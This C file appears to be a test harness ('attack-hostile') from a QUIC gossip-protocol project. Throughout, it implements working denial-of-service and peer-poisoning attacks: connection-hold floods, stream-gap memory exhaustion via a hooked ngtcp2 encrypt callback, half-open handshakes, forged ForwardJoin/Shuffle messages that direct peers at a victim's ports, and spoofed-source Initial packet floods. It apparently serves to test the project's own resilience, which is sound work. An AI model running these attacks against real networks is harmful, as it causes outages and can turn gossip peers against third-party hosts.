/* SPDX-License-Identifier: MIT OR Apache-2.0 */
/*
 * The attacks of the suite as one program. None of them knows the secret; some know the topic.
 *
 * usage: attack-hostile KIND [OPTIONS] ID@ADDR:PORT...
 *
 *   hold        connections that say nothing but a frame of an unknown topic each 2.5 s, and come
 *               again at once when they are let go; --same: under the same ids
 *   gaps        the same, after filling the windows with every other byte
 *   halfopen    handshakes that are not gone on with
 *   silence     Join once a second to each target, and nothing else; --garbage publishes too
 *   join, shuffle, reply
 *               a neighbour that names fresh ids at the victim's ports, by ForwardJoin and so on
 *   packets     the same with the ids of attack-forger, and no address
 *   mute        neighbours that never read
 *   talk, large, again, announce, flap, walk
 *               a neighbour that sends at full speed: small messages, large ones, one again and
 *               again, IHaves, Disconnect and Join in turn, ForwardJoin and Shuffle in turn
 *   initials    Initial packets from ever new addresses of 127.0.0.0/8, and garbage short headers
 *
 *   --topic NAME  --from IP  --sources N (addresses from IP on)  --prefix BITS (by which they
 * differ)
 *   --count N (connections a target)  --rate N (a second)  --seconds N
 *   --victim IP:PORT  --ports N  --hosts N (addresses of the victim, from IP on)
 *   --short N (of a hundred datagrams, short headers)  --garbage  --same
 *
 * Prints a line when it has begun, and what it sent at the end; ends with its standard input.
 */
#include "forged.h"
#include "stranger.h"

#include "crypto/blake3.h"
#include "crypto/ed25519.h"
#include "crypto/hash.h"
#include "gossip/addr_info.h"
#include "io/host.h"
#include "quic/ngtcp2_compat.h"

#include <netinet/in.h>
#include <poll.h>
#include <stdio.h>
#include <stdlib.h>
#include <sys/socket.h>
#include <unistd.h>

#define TARGETS 16

struct options {
    struct dtt_gossip_topic_id topic;
    struct dtt_addr from;
    unsigned sources;
    unsigned prefix;
    unsigned count;
    unsigned rate;
    unsigned seconds;
    struct dtt_addr victim;
    unsigned ports;
    unsigned hosts;
    unsigned short_percent;
    bool has_garbage;
    bool is_same;
    size_t n_targets;
    struct dtt_id ids[TARGETS];
    struct dtt_addr addrs[TARGETS];
};

static struct options opt;
static struct stranger *all;
static size_t n_all;
static uint64_t end_ns;

/* ---- frames of our own in the packets of ngtcp2 */

static bool fills_gaps;
static unsigned gap_stream; /* number of the stream that is being filled */
static unsigned gap_offset;

/* STREAM frames of one byte each, every other byte of up to a hundred streams. */
static void write_gaps(uint8_t *out, size_t len)
{
    size_t at = 0;
    while (at + 9 <= len && gap_stream < 99) {
        unsigned id = 4 * gap_stream + 2;
        out[at++] = 0x0e; /* STREAM with offset and length */
        out[at++] = (uint8_t)(0x40 | id >> 8);
        out[at++] = (uint8_t)id;
        out[at++] = (uint8_t)(0x40 | gap_offset >> 8);
        out[at++] = (uint8_t)gap_offset;
        out[at++] = 1;
        out[at++] = 0;
        gap_offset += 2;
        if (gap_offset > 1800) {
            gap_offset = 1;
            gap_stream++;
        }
    }
    memset(out + at, 0, len - at); /* PADDING */
}

int ngtcp2_crypto_encrypt_cb(uint8_t *dest, const ngtcp2_crypto_aead *aead,
                             const ngtcp2_crypto_aead_ctx *aead_ctx, const uint8_t *plaintext,
                             size_t plaintextlen, const uint8_t *nonce, size_t noncelen,
                             const uint8_t *aad, size_t aadlen)
{
    uint8_t evil[2048];
    if (fills_gaps && plaintextlen > 600 && plaintextlen <= sizeof(evil)) {
        write_gaps(evil, plaintextlen);
        plaintext = evil;
    }
    return ngtcp2_crypto_encrypt(dest, aead, aead_ctx, plaintext, plaintextlen, nonce, noncelen,
                                 aad, aadlen) == 0
               ? 0
               : NGTCP2_ERR_CALLBACK_FAILURE;
}

/* ---- what they have in common */

static bool is_over(void)
{
    struct pollfd in = {.fd = STDIN_FILENO, .events = POLLIN};
    char byte;
    return stranger_now_ns() >= end_ns ||
           (poll(&in, 1, 0) > 0 && read(STDIN_FILENO, &byte, 1) <= 0);
}

/* The address `add` networks of the length `prefix` behind `a`; 0: a single address. */
static struct dtt_addr addr_behind(struct dtt_addr a, unsigned prefix, unsigned add)
{
    for (size_t at = prefix ? prefix / 8 : dtt_addr_ip_len(&a); at-- > 0 && add > 0;) {
        add += a.ip[at];
        a.ip[at] = (uint8_t)add;
        add >>= 8;
    }
    return a;
}

static void random_id(struct dtt_id *ret)
{
    uint8_t seed[32];
    (void)dtt_host_entropy(seed, sizeof(seed));
    dtt_ed25519_public_key(ret->bytes, seed);
}

static void report(void)
{
    uint64_t tx = 0;
    unsigned alive = 0;
    for (size_t i = 0; i < n_all; i++) {
        tx += all[i].tx_bytes;
        alive += all[i].quic && all[i].is_connected && !all[i].is_closed;
    }
    printf("{\"event\":\"report\",\"tx_bytes\":%llu,\"alive\":%u}\n", (unsigned long long)tx,
           alive);
}

static void begun(void)
{
    report();
    printf("{\"event\":\"begun\"}\n");
    fflush(stdout);
}

static void make_strangers(size_t n)
{
    n_all = n;
    all = calloc(n, sizeof(*all));
    if (!all) {
        stranger_die("no memory");
    }
}

static void open_one(size_t i)
{
    struct dtt_addr source = addr_behind(opt.from, opt.prefix, (unsigned)i % opt.sources);
    size_t target = i / opt.count;
    stranger_close(&all[i]);
    stranger_open(&all[i], &source, &opt.ids[target], &opt.addrs[target], opt.is_same);
}

/* ---- connections without use */

static void say_noise(struct stranger *s)
{
    static const uint8_t frame[] = {0, 0, 0, 2, 9, 9};
    struct dtt_gossip_topic_id unknown;
    if (s->stream < 0) {
        (void)dtt_host_entropy(&unknown, sizeof(unknown));
        (void)stranger_speak(s, &unknown);
    } else {
        (void)dtt_quic_write(s->quic, s->conn, s->stream, dtt_slice(frame, sizeof(frame)), false);
    }
}

static void fill_gaps(struct stranger *s)
{
    static const uint8_t blob[64 * 1024];
    int64_t stream;
    for (unsigned i = 0; i < 99; i++) {
        if (dtt_quic_open_uni(s->quic, s->conn, &stream) == DTT_OK && i < 3) {
            (void)dtt_quic_write(s->quic, s->conn, stream, dtt_slice(blob, sizeof(blob)), false);
        }
    }
    gap_stream = 0;
    gap_offset = 1;
    fills_gaps = true;
    stranger_run(s, 1, 200);
    fills_gaps = false;
}

static void hold(bool with_gaps)
{
    make_strangers(opt.count * opt.n_targets);
    for (size_t i = 0; i < n_all && !is_over(); i++) {
        open_one(i);
        if (stranger_connect(&all[i]) && with_gaps) {
            fill_gaps(&all[i]);
        }
        stranger_run(all, i + 1, 0);
    }
    begun();
    for (unsigned turn = 0; !is_over(); turn++) {
        for (size_t i = 0; i < n_all; i++) {
            if (all[i].is_closed) {
                open_one(i);
            } else if (all[i].is_connected && turn % 50 == 0) {
                say_noise(&all[i]);
            }
        }
        stranger_run(all, n_all, 50);
    }
}

/* Handshakes of which the target hears no more than that the client is there. */
static void half_open(void)
{
    make_strangers(opt.count * opt.n_targets);
    for (unsigned turn = 0; !is_over(); turn++) {
        open_one(turn % n_all);
        all[turn % n_all].is_deaf = true;
        stranger_run(all, n_all, 1000 / opt.rate);
        if (turn == n_all) {
            begun();
        }
    }
}

/* ---- neighbours without use */

/* A message that nobody has said yet. */
static struct dtt_gossip_message fresh_message(uint8_t *content, size_t len)
{
    static uint64_t number;
    struct dtt_gossip_message m = {.type = DTT_MSG_GOSSIP, .u.gossip.scope = DTT_GOSSIP_SWARM};
    dtt_put_be64(content, ++number);
    memcpy(content + 8, all[0].ctx.seed, 8);
    m.u.gossip.content = dtt_slice(content, len);
    dtt_blake3(m.u.gossip.id.bytes, m.u.gossip.content);
    return m;
}

static void silence(void)
{
    uint8_t content[64];
    make_strangers(opt.count * opt.n_targets);
    bool has_begun = false;
    while (!is_over()) {
        for (size_t i = 0; i < n_all; i++) {
            struct stranger *s = &all[i];
            if (!s->quic || s->is_closed) {
                open_one(i);
            } else if (s->is_connected && (s->stream >= 0 || !stranger_speak(s, &opt.topic))) {
                stranger_join(s);
                if (opt.has_garbage) {
                    const struct dtt_gossip_message m = fresh_message(content, sizeof(content));
                    (void)stranger_say(s, &m);
                }
            }
        }
        stranger_run(all, n_all, 1000);
        if (!has_begun) {
            begun();
            has_begun = true;
        }
    }
}

/* The one neighbour that most attacks need. */
static struct stranger *neighbor(void)
{
    make_strangers(1);
    open_one(0);
    if (!stranger_connect(&all[0]) || stranger_speak(&all[0], &opt.topic)) {
        stranger_die("the target does not let me in");
    }
    stranger_join(&all[0]);
    stranger_run(all, 1, 300);
    return &all[0];
}

/* A fresh id at eight of the victim's ports. `info` holds what the node points to. */
static struct dtt_gossip_node name_victim(uint8_t *info, size_t cap)
{
    static unsigned port;
    struct dtt_addr addrs[8];
    struct dtt_gossip_node node = {.data.is_some = true};
    struct dtt_writer w = dtt_writer(info, cap);
    size_t n = opt.ports * opt.hosts < 8 ? opt.ports * opt.hosts : 8;
    for (size_t i = 0; i < n; i++, port++) {
        addrs[i] = addr_behind(opt.victim, 0, port / opt.ports % opt.hosts);
        addrs[i].port = (uint16_t)(opt.victim.port + port % opt.ports);
    }
    dtt_addr_info_write(&w, "", addrs, n);
    random_id(&node.id);
    node.data.bytes = dtt_slice(info, w.len);
    return node;
}

/* An id under which attack-forger has put a packet. */
static struct dtt_gossip_node name_packet(void)
{
    static uint32_t number;
    struct dtt_gossip_node node = {.data.is_some = false};
    uint8_t seed[32];
    forged_seed(seed, number++ % FORGED);
    dtt_ed25519_public_key(node.id.bytes, seed);
    return node;
}

static void name_victims(const char *kind)
{
    static uint8_t info[16][256];
    struct stranger *s = neighbor();
    begun();
    while (!is_over() && !s->is_closed) {
        struct dtt_gossip_message m = {.type = kind[0] == 's'   ? DTT_MSG_SHUFFLE
                                               : kind[0] == 'r' ? DTT_MSG_SHUFFLE_REPLY
                                                                : DTT_MSG_FORWARD_JOIN};
        if (kind[0] == 'p') {
            m.u.forward_join.peer = name_packet();
        } else if (kind[0] == 'j') {
            m.u.forward_join.peer = name_victim(info[0], sizeof(info[0]));
        } else {
            random_id(&m.u.shuffle.origin);
            for (m.u.shuffle.n = 0; m.u.shuffle.n < 16; m.u.shuffle.n++) {
                m.u.shuffle.nodes[m.u.shuffle.n] =
                    name_victim(info[m.u.shuffle.n], sizeof(info[0]));
            }
        }
        (void)stranger_say(s, &m);
        stranger_run(s, 1, 1000 / opt.rate);
    }
}

/* A mute one does not notice that it was let go: each comes again after 8 seconds. */
static void mute(void)
{
    make_strangers(opt.count);
    for (unsigned turn = 0; !is_over(); turn++) {
        struct stranger *s = &all[turn % n_all];
        open_one(turn % n_all);
        while (!s->is_connected && !s->is_closed && !is_over()) {
            stranger_run(all, n_all, 1);
        }
        if (s->is_connected && !stranger_speak(s, &opt.topic)) {
            stranger_join(s);
        }
        stranger_run(all, n_all, 300);
        s->is_mute = true;
        if (turn + 1 == n_all) {
            begun();
        }
        for (unsigned i = 0; turn + 1 >= n_all && i * n_all < 80 && !is_over(); i++) {
            stranger_run(all, n_all, 100);
        }
    }
}

static struct dtt_gossip_message flood_message(const char *kind, unsigned turn)
{
    static uint8_t content[4000];
    struct dtt_gossip_message m = {.type = DTT_MSG_IHAVE};
    if (strcmp(kind, "talk") == 0 || strcmp(kind, "large") == 0) {
        return fresh_message(content, kind[0] == 't' ? 16 : sizeof(content));
    }
    if (strcmp(kind, "again") == 0) {
        m.type = DTT_MSG_GOSSIP;
        m.u.gossip.content = dtt_slice("again", 5);
        dtt_blake3(m.u.gossip.id.bytes, m.u.gossip.content);
    } else if (strcmp(kind, "walk") == 0 && turn % 2 == 0) {
        m.type = DTT_MSG_FORWARD_JOIN;
        m.u.forward_join.ttl = 6;
        random_id(&m.u.forward_join.peer.id);
    } else if (strcmp(kind, "walk") == 0) {
        m.type = DTT_MSG_SHUFFLE;
        m.u.shuffle.ttl = 6;
        random_id(&m.u.shuffle.origin);
        for (m.u.shuffle.n = 0; m.u.shuffle.n < 16; m.u.shuffle.n++) {
            random_id(&m.u.shuffle.nodes[m.u.shuffle.n].id);
        }
    } else if (strcmp(kind, "flap") == 0) {
        m.type = turn % 2 == 0 ? DTT_MSG_DISCONNECT : DTT_MSG_JOIN;
        m.u.join.data.is_some = turn % 2 != 0;
    } else {
        m.u.ihave.n = 100;
        (void)dtt_host_entropy(m.u.ihave.entries, 100 * sizeof(m.u.ihave.entries[0]));
        for (size_t i = 0; i < m.u.ihave.n; i++) {
            m.u.ihave.entries[i].round = 3;
        }
    }
    return m;
}

static void flood(const char *kind)
{
    struct stranger *s = neighbor();
    begun();
    for (unsigned turn = 0; !is_over(); turn++) {
        const struct dtt_gossip_message m = flood_message(kind, turn);
        if (s->is_closed) {
            open_one(0);
            if (!stranger_connect(s) || stranger_speak(s, &opt.topic)) {
                stranger_run(s, 1, 50);
                continue;
            }
            stranger_join(s);
        }
        if (stranger_say(s, &m) != DTT_OK) {
            stranger_run(s, 1, 1);
        } else if (turn % 32 == 0) {
            stranger_turn(s);
        }
    }
}

/* ---- datagrams without connection */

static void send_from(int fd, uint32_t source, const struct dtt_addr *to, struct dtt_slice data)
{
    struct sockaddr_in in = {.sin_family = AF_INET, .sin_port = htons(to->port)};
    char control[CMSG_SPACE(sizeof(struct in_pktinfo))] = {0};
    struct iovec part = {(void *)data.data, data.len};
    struct msghdr m = {.msg_name = &in,
                       .msg_namelen = sizeof(in),
                       .msg_iov = &part,
                       .msg_iovlen = 1,
                       .msg_control = control,
                       .msg_controllen = sizeof(control)};
    struct cmsghdr *head = CMSG_FIRSTHDR(&m);
    struct in_pktinfo info = {.ipi_spec_dst.s_addr = htonl(source)};
    memcpy(&in.sin_addr, to->ip, 4);
    *head = (struct cmsghdr){
        .cmsg_level = IPPROTO_IP, .cmsg_type = IP_PKTINFO, .cmsg_len = CMSG_LEN(sizeof(info))};
    memcpy(CMSG_DATA(head), &info, sizeof(info));
    (void)!sendmsg(fd, &m, MSG_DONTWAIT);
}

/* The first packet of a handshake that is not gone on with. */
static struct dtt_slice first_packet(struct dtt_quic **quic)
{
    static struct dtt_ctx ctx;
    static unsigned made;
    struct dtt_quic_config cfg = {.alpn = DTT_GOSSIP_ALPN, .max_conns = 4096};
    struct dtt_addr me = opt.from;
    struct dtt_quic_packet packet = {.data.len = 0};
    struct dtt_quic_event ev;
    dtt_quic_conn conn;
    me.port = 1;
    if (made++ % 1000 == 0) {
        dtt_quic_free(*quic);
        if (dtt_host_entropy(ctx.seed, 32) || dtt_host_entropy(cfg.seed, 32) ||
            dtt_quic_new(quic, &ctx, &cfg, dtt_host_now())) {
            stranger_die("no endpoint");
        }
    }
    if (dtt_quic_dial(*quic, dtt_host_now(), &opt.ids[0], &me, &opt.addrs[0], &conn)) {
        stranger_die("no dial");
    }
    static uint8_t kept[2048];
    if (dtt_quic_next_packet(*quic, dtt_host_now(), &packet) && packet.data.len <= sizeof(kept)) {
        memcpy(kept, packet.data.data, packet.data.len);
    }
    size_t len = packet.data.len;
    dtt_quic_close(*quic, dtt_host_now(), conn, 0, "");
    while (dtt_quic_next_event(*quic, &ev)) {
    }
    return dtt_slice(kept, len);
}

static void initials(void)
{
    struct sockaddr_in any = {.sin_family = AF_INET};
    struct dtt_quic *quic = NULL;
    uint8_t noise[60];
    uint64_t start_ns = stranger_now_ns();
    uint64_t sent = 0;
    uint32_t source = 0x7f010001;
    int fd = socket(AF_INET, SOCK_DGRAM | SOCK_NONBLOCK, 0);
    if (fd < 0 || bind(fd, (const struct sockaddr *)&any, sizeof(any)) != 0) {
        stranger_die("no socket");
    }
    begun();
    while (!is_over()) {
        uint64_t due = (stranger_now_ns() - start_ns) * opt.rate / DTT_S;
        for (; sent < due; sent++) {
            (void)dtt_host_entropy(noise, sizeof(noise));
            noise[0] = 0x40 | (noise[0] & 0x3f);
            send_from(fd, source++, &opt.addrs[0],
                      sent % 100 < opt.short_percent ? dtt_slice(noise, sizeof(noise))
                                                     : first_packet(&quic));
        }
        poll(NULL, 0, 1);
    }
    printf("{\"event\":\"sent\",\"datagrams\":%llu}\n", (unsigned long long)sent);
    dtt_quic_free(quic);
    close(fd);
}

/* ---- the command line */

static void read_addr(const char *text, struct dtt_addr *ret)
{
    if (dtt_addr_parse(text, ret) != DTT_OK) {
        stranger_die("an address is no address");
    }
}

static void read_option(const char *name, const char *value)
{
    unsigned number = (unsigned)strtoul(value, NULL, 10);
    const struct dtt_slice text = dtt_slice(value, strlen(value));
    char addr[80];
    if (strcmp(name, "--topic") == 0) {
        dtt_sha512_32(opt.topic.bytes, &text, 1);
    } else if (strcmp(name, "--from") == 0) {
        snprintf(addr, sizeof(addr), strchr(value, ':') ? "[%s]:0" : "%s:0", value);
        read_addr(addr, &opt.from);
    } else if (strcmp(name, "--victim") == 0) {
        read_addr(value, &opt.victim);
    } else if (strcmp(name, "--sources") == 0) {
        opt.sources = number;
    } else if (strcmp(name, "--prefix") == 0) {
        opt.prefix = number;
    } else if (strcmp(name, "--count") == 0) {
        opt.count = number;
    } else if (strcmp(name, "--rate") == 0) {
        opt.rate = number;
    } else if (strcmp(name, "--seconds") == 0) {
        opt.seconds = number;
    } else if (strcmp(name, "--ports") == 0) {
        opt.ports = number;
    } else if (strcmp(name, "--hosts") == 0) {
        opt.hosts = number;
    } else if (strcmp(name, "--short") == 0) {
        opt.short_percent = number;
    } else {
        stranger_die("an option is unknown");
    }
}

static void read_target(const char *word)
{
    if (opt.n_targets == TARGETS) {
        stranger_die("a target is no target");
    }
    stranger_read_target(word, &opt.ids[opt.n_targets], &opt.addrs[opt.n_targets]);
    opt.n_targets++;
}

static void attack(const char *kind)
{
    if (strcmp(kind, "hold") == 0 || strcmp(kind, "gaps") == 0) {
        hold(kind[0] == 'g');
    } else if (strcmp(kind, "silence") == 0) {
        silence();
    } else if (strcmp(kind, "halfopen") == 0) {
        half_open();
    } else if (strcmp(kind, "join") == 0 || strcmp(kind, "shuffle") == 0 ||
               strcmp(kind, "reply") == 0 || strcmp(kind, "packets") == 0) {
        name_victims(kind);
    } else if (strcmp(kind, "mute") == 0) {
        mute();
    } else if (strcmp(kind, "initials") == 0) {
        initials();
    } else {
        flood(kind);
    }
}

int main(int argc, char **argv)
{
    opt = (struct options){
        .sources = 1, .count = 1, .rate = 10, .seconds = 600, .ports = 8, .hosts = 1};
    read_option("--from", "127.0.0.1");
    for (int i = 2; i < argc; i++) {
        if (strcmp(argv[i], "--garbage") == 0) {
            opt.has_garbage = true;
        } else if (strcmp(argv[i], "--same") == 0) {
            opt.is_same = true;
        } else if (argv[i][0] == '-' && i + 1 < argc) {
            read_option(argv[i], argv[i + 1]);
            i++;
        } else {
            read_target(argv[i]);
        }
    }
    if (argc < 3 || opt.n_targets == 0 || opt.rate == 0 || opt.sources == 0 || opt.count == 0 ||
        opt.ports == 0 || opt.hosts == 0) {
        stranger_die("usage: attack-hostile KIND [OPTIONS] ID@ADDR:PORT...");
    }
    end_ns = stranger_now_ns() + opt.seconds * DTT_S;
    attack(argv[1]);
    report();
    return 0;
}
